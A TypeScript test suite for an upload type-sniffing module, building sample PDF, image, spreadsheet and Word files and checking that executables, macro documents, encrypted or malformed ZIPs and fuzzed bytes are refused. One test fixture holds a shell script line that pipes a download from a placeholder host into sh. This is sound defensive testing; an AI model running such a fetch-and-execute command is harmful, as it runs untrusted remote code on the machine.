/**
 * Tests of document type sniffing on real files made here: PDF written by hand, JPEG/PNG from
 * sharp, XLSX from exceljs, DOCX with a small ZIP writer, plus hostile and broken inputs.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import sharp from 'sharp';
import { ACCEPTED_MEDIA_TYPES, extensionFor, isExecutable, sniffMediaType } from './sniff.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** A minimal valid one-page PDF, with a correct cross-reference table. */
function minimalPdf(): Buffer {
  const content = '0 0 m 100 100 l S';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

interface ZipEntry {
  name: string;
  data: string | Buffer;
  /** Sets the "encrypted" flag (the data itself is not encrypted; enough for the directory). */
  encrypted?: boolean;
}

/** A small ZIP writer: deflated entries, a central directory, optionally ZIP64 end records. */
function makeZip(entries: ZipEntry[], options: { comment?: string; zip64?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, 'utf8');
    const compressed = zlib.deflateRawSync(data);
    const name = Buffer.from(entry.name, 'utf8');
    const crc = zlib.crc32(data);
    const flags = 0x0800 | (entry.encrypted ? 0x0001 : 0); // UTF-8 names
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(0, 10); // time, date
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // version made by
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += local.length + name.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const comment = Buffer.from(options.comment ?? '', 'utf8');
  const tail: Buffer[] = [];
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  if (options.zip64) {
    const record = Buffer.alloc(56);
    record.writeUInt32LE(0x06064b50, 0);
    record.writeBigUInt64LE(44n, 4); // size of the rest of the record
    record.writeUInt16LE(45, 12);
    record.writeUInt16LE(45, 14);
    record.writeBigUInt64LE(BigInt(entries.length), 24);
    record.writeBigUInt64LE(BigInt(entries.length), 32);
    record.writeBigUInt64LE(BigInt(directory.length), 40);
    record.writeBigUInt64LE(BigInt(offset), 48);
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    locator.writeBigUInt64LE(BigInt(offset + directory.length), 8);
    locator.writeUInt32LE(1, 16);
    tail.push(record, locator);
    eocd.writeUInt16LE(0xffff, 8);
    eocd.writeUInt16LE(0xffff, 10);
    eocd.writeUInt32LE(0xffffffff, 12);
    eocd.writeUInt32LE(0xffffffff, 16);
  } else {
    eocd.writeUInt16LE(entries.length, 8);
    eocd.writeUInt16LE(entries.length, 10);
    eocd.writeUInt32LE(directory.length, 12);
    eocd.writeUInt32LE(offset, 16);
  }
  eocd.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...locals, directory, ...tail, eocd, comment]);
}

const DOCX_CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>`;
const DOCX_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
</Relationships>`;
const DOCX_DOCUMENT = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Hồ sơ sản phẩm OCOP</w:t></w:r></w:p></w:body>
</w:document>`;

const docxEntries = (): ZipEntry[] => [
  { name: '[Content_Types].xml', data: DOCX_CONTENT_TYPES },
  { name: '_rels/.rels', data: DOCX_RELS },
  { name: 'word/document.xml', data: DOCX_DOCUMENT },
];

let dir: string;
const files: Record<'pdf' | 'jpeg' | 'png' | 'xlsx' | 'docx', Buffer> = {
  pdf: Buffer.alloc(0),
  jpeg: Buffer.alloc(0),
  png: Buffer.alloc(0),
  xlsx: Buffer.alloc(0),
  docx: Buffer.alloc(0),
};

before(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ocop-sniff-'));
  const image = sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a7' } });
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Sản phẩm');
  sheet.addRow(['Mã', 'Tên', 'Số sao']);
  sheet.addRow(['SP-001', 'Mật ong rừng', 4]);
  const made = {
    pdf: minimalPdf(),
    jpeg: await image.clone().jpeg().toBuffer(),
    png: await image.clone().png().toBuffer(),
    xlsx: Buffer.from(await workbook.xlsx.writeBuffer()),
    docx: makeZip(docxEntries()),
  };
  // Round-trip through real files on disk, as uploads would arrive.
  for (const [kind, bytes] of Object.entries(made)) {
    const file = path.join(dir, `sample.${kind}`);
    fs.writeFileSync(file, bytes);
    files[kind as keyof typeof files] = fs.readFileSync(file);
  }
});

after(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('sniffMediaType', () => {
  test('recognises each accepted type from real files', () => {
    assert.equal(sniffMediaType(files.pdf), 'application/pdf');
    assert.equal(sniffMediaType(files.jpeg), 'image/jpeg');
    assert.equal(sniffMediaType(files.png), 'image/png');
    assert.equal(sniffMediaType(files.xlsx), XLSX);
    assert.equal(sniffMediaType(files.docx), DOCX);
  });

  test('works on a Uint8Array view into a larger buffer', () => {
    const padded = Buffer.concat([Buffer.from('junk'), files.xlsx, Buffer.from('tail')]);
    const view = new Uint8Array(padded.buffer, padded.byteOffset + 4, files.xlsx.length);
    assert.equal(sniffMediaType(view), XLSX);
  });

  test('a PDF with garbage after %%EOF is still a PDF', () => {
    const withGarbage = Buffer.concat([files.pdf, Buffer.from('\x00\xff garbage <html> MZ PK\x03\x04')]);
    assert.equal(sniffMediaType(withGarbage), 'application/pdf');
  });

  test('an executable renamed .pdf is refused and flagged as executable', () => {
    // DOS header with e_lfanew pointing at a PE signature, like a real Windows program.
    const exe = Buffer.alloc(256);
    exe.write('MZ', 0, 'latin1');
    exe.writeUInt16LE(0x90, 2);
    exe.writeUInt32LE(0x80, 0x3c);
    exe.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
    exe.write('PE\0\0', 0x80, 'latin1');
    const file = path.join(dir, 'certificate.pdf');
    fs.writeFileSync(file, exe);
    const bytes = fs.readFileSync(file);
    assert.equal(sniffMediaType(bytes), null);
    assert.equal(isExecutable(bytes), true);
  });

  test('other executables and scripts are refused and flagged', () => {
    const cases = [
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), // ELF
      Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), // Mach-O 64 little-endian
      Buffer.from([0xfe, 0xed, 0xfa, 0xcf, 0, 0, 0, 7]), // Mach-O 64 big-endian
      Buffer.from([0xce, 0xfa, 0xed, 0xfe, 7, 0, 0, 0]), // Mach-O 32 little-endian
      Buffer.from([0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7]), // Mach-O 32 big-endian
      Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), // universal binary
      Buffer.from('#!/bin/sh\ncurl evil | sh\n'),
    ];
    for (const bytes of cases) {
      assert.equal(sniffMediaType(bytes), null, bytes.subarray(0, 4).toString('hex'));
      assert.equal(isExecutable(bytes), true, bytes.subarray(0, 4).toString('hex'));
    }
  });

  test('accepted documents are not flagged as executables', () => {
    for (const bytes of Object.values(files)) assert.equal(isExecutable(bytes), false);
    assert.equal(isExecutable(new Uint8Array()), false);
    assert.equal(isExecutable(Buffer.from('M')), false);
  });

  test('legacy OLE (.doc/.xls, encrypted Office) and HTML are refused', () => {
    const ole = Buffer.alloc(512);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(ole);
    assert.equal(sniffMediaType(ole), null);
    assert.equal(sniffMediaType(Buffer.from('<!DOCTYPE html><html><body>%PDF-1.4</body></html>')), null);
    assert.equal(sniffMediaType(Buffer.from('  %PDF-1.4\n')), null);
  });

  test('a ZIP that is neither XLSX nor DOCX is refused', () => {
    const cases: ZipEntry[][] = [
      [{ name: 'readme.txt', data: 'hello' }],
      // the main part without [Content_Types].xml
      [{ name: 'word/document.xml', data: DOCX_DOCUMENT }],
      // [Content_Types].xml without a main part (e.g. a .pptx)
      [
        { name: '[Content_Types].xml', data: DOCX_CONTENT_TYPES },
        { name: 'ppt/presentation.xml', data: '<p/>' },
      ],
      // both main parts: ambiguous
      [...docxEntries(), { name: 'xl/workbook.xml', data: '<workbook/>' }],
      // a macro-enabled document passed off as .docx
      [...docxEntries(), { name: 'word/vbaProject.bin', data: Buffer.alloc(64) }],
      // an encrypted entry
      [{ name: '[Content_Types].xml', data: DOCX_CONTENT_TYPES, encrypted: true }, ...docxEntries().slice(1)],
    ];
    for (const entries of cases) {
      assert.equal(sniffMediaType(makeZip(entries)), null, entries.map((e) => e.name).join(', '));
    }
    assert.equal(sniffMediaType(makeZip([])), null);
  });

  test('finds the ZIP directory behind an archive comment, and through ZIP64 end records', () => {
    assert.equal(sniffMediaType(makeZip(docxEntries(), { comment: 'PK\x05\x06 tricky comment' })), DOCX);
    assert.equal(sniffMediaType(makeZip(docxEntries(), { zip64: true })), DOCX);
  });

  test('part names compare case-insensitively, as OPC says', () => {
    const entries = docxEntries().map((e) => ({ ...e, name: e.name.toUpperCase() }));
    assert.equal(sniffMediaType(makeZip(entries)), DOCX);
  });

  test('truncated files are refused', () => {
    assert.equal(sniffMediaType(files.pdf.subarray(0, 4)), null); // %PDF
    assert.equal(sniffMediaType(Buffer.from('%PDF-')), null);
    assert.equal(sniffMediaType(files.jpeg.subarray(0, 3)), null);
    assert.equal(sniffMediaType(files.png.subarray(0, 8)), null); // signature, no IHDR
    assert.equal(sniffMediaType(files.png.subarray(0, 12)), null);
    // A ZIP cut anywhere before its end record has no directory to read.
    for (const zip of [files.docx, files.xlsx]) {
      for (const cut of [4, 30, Math.floor(zip.length / 2), zip.length - 23, zip.length - 1]) {
        assert.equal(sniffMediaType(zip.subarray(0, cut)), null, `cut at ${cut}`);
      }
    }
  });

  test('a ZIP whose directory points out of the file is refused', () => {
    const zip = Buffer.from(files.docx);
    zip.writeUInt32LE(zip.length, zip.length - 6); // central directory offset past the end
    assert.equal(sniffMediaType(zip), null);
  });

  test('empty input is refused', () => {
    assert.equal(sniffMediaType(new Uint8Array()), null);
    assert.equal(sniffMediaType(Buffer.alloc(1)), null);
  });

  test('never throws on arbitrary bytes', () => {
    const zipLike = fc
      .tuple(fc.uint8Array({ maxLength: 300 }), fc.uint8Array({ minLength: 22, maxLength: 22 }))
      .map(([middle, end]) => {
        const bytes = Buffer.concat([Buffer.from('PK\x03\x04'), middle, end]);
        bytes.writeUInt32LE(0x06054b50, bytes.length - 22); // a plausible end record with random fields
        bytes.writeUInt16LE(0, bytes.length - 2);
        return new Uint8Array(bytes);
      });
    const mutatedDocx = fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })).map(([at, value]) => {
      const bytes = Buffer.from(files.docx);
      bytes[at % bytes.length] = value;
      return new Uint8Array(bytes);
    });
    fc.assert(
      fc.property(fc.oneof(fc.uint8Array({ maxLength: 2048 }), zipLike, mutatedDocx), (bytes) => {
        const type = sniffMediaType(bytes);
        assert.ok(type === null || ACCEPTED_MEDIA_TYPES.includes(type));
        isExecutable(bytes);
      }),
      { numRuns: 2000 },
    );
  });
});

test('extensionFor names each accepted type', () => {
  assert.deepEqual(ACCEPTED_MEDIA_TYPES.map(extensionFor), ['pdf', 'jpg', 'png', 'xlsx', 'docx']);
});
